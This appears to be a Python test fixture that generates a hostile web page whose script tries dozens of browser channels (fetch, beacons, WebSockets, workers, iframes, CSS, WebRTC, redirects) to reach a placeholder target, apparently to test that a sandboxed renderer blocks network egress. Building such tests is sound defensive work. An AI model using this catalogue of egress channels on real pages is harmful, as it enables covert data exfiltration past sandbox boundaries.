"""Every way out of a page that was measured to open a connection somewhere, as one page that tries them all."""

# ruff: noqa: E501 (a way out a line)
from __future__ import annotations

from tests.render.hostile import app

VECTORS = """
const url = TARGET, host = new URL(url).host, ws = url.replace('http', 'ws');
const add = (name, attributes, parent = document.body) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
  return element;
};
const blob = (code) => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
const tries = [
  () => fetch(url), () => fetch(url, {mode: 'no-cors'}), () => fetch(url, {method: 'PUT', headers: {'X-Own': '1'}}),
  () => fetch(url, {method: 'POST', mode: 'no-cors', body: 'x', keepalive: true}),
  () => { const x = new XMLHttpRequest(); x.open('GET', url); x.send(); },
  () => navigator.sendBeacon(url, 'x'), () => new EventSource(url), () => new WebSocket(ws),
  () => new WebSocketStream(ws).opened,
  () => add('img', {src: url}), () => add('script', {src: url}), () => add('iframe', {src: url}),
  () => add('iframe', {srcdoc: `<img src="${url}"><iframe src="${url}"></iframe>`}),
  () => add('iframe', {src: 'data:text/html,' + encodeURIComponent(`<script>fetch("${url}",{mode:"no-cors"})<\\/script>`)}),
  () => add('object', {data: url}), () => add('embed', {src: url}), () => add('video', {src: url, autoplay: '', muted: ''}),
  () => add('audio', {src: url, preload: 'auto'}), () => add('track', {src: url}),
  ...['stylesheet', 'preload', 'prefetch', 'modulepreload', 'preconnect', 'dns-prefetch', 'manifest', 'icon', 'prerender'].map(
    (rel) => () => add('link', {rel, href: url, as: 'fetch', crossorigin: ''}, document.head)),
  () => add('script', {type: 'speculationrules'}).textContent = JSON.stringify(
    {prefetch: [{source: 'list', urls: [url]}], prerender: [{source: 'list', urls: [url]}]}),
  () => { const a = add('a', {href: '#', ping: url}); a.click(); },
  () => { const f = add('form', {action: url, method: 'post', target: 'elsewhere'}); add('iframe', {name: 'elsewhere'}); f.submit(); },
  () => { const s = add('style', {}); s.textContent = `@import "${url}"; @font-face {font-family: x; src: url("${url}")}
    body {font-family: x; background: url("${url}"); cursor: url("${url}"), auto}`; },
  () => new Worker(blob(`fetch("${url}",{mode:"no-cors"}); new WebSocket("${ws}"); try { importScripts("${url}") } catch {}`)),
  () => new SharedWorker(blob(`fetch("${url}",{mode:"no-cors"}); new EventSource("${url}")`)),
  () => navigator.serviceWorker.register('/worker.js'),
  () => Object.getPrototypeOf(navigator.serviceWorker).register.call(navigator.serviceWorker, '/worker.js'),
  () => import(url),
  () => new WebTransport(url.replace('http:', 'https:')).ready,
  () => open(url), () => document.open && add('iframe', {src: 'javascript:fetch("' + url + '",{mode:"no-cors"})'}),
  () => { const inner = add('iframe', {}).contentWindow; inner.fetch(url, {mode: 'no-cors'}); inner.open(url); },
  () => new PaymentRequest([{supportedMethods: url}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}}).canMakePayment(),
  () => navigator.credentials.get({identity: {providers: [{configURL: url, clientId: 'x'}]}}),
  ...[window, add('iframe', {}).contentWindow].flatMap((where) => ['RTCPeerConnection', 'webkitRTCPeerConnection'].map((name) => async () => {
    const peer = new where[name]({iceServers: [{urls: 'stun:' + host}, {urls: `turn:${host}?transport=udp`, username: 'a', credential: 'b'},
      {urls: `turn:${host}?transport=tcp`, username: 'a', credential: 'b'}]});
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await peer.addIceCandidate({candidate: `candidate:1 1 udp 1 ${host.split(':')[0]} ${host.split(':')[1]} typ host`, sdpMid: '0'});
  })),
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => 0); } catch { continue; } }
setTimeout(() => { location.href = url; }, 700);
"""


def page(target: str, *, moves: bool = False) -> str:
    """A page with a text that tries to reach `target`; with `moves` it goes there itself at last."""
    script = VECTORS.replace("TARGET", repr(target))
    if not moves:
        script = script[: script.index("setTimeout(() => { location")]
    return app(script)
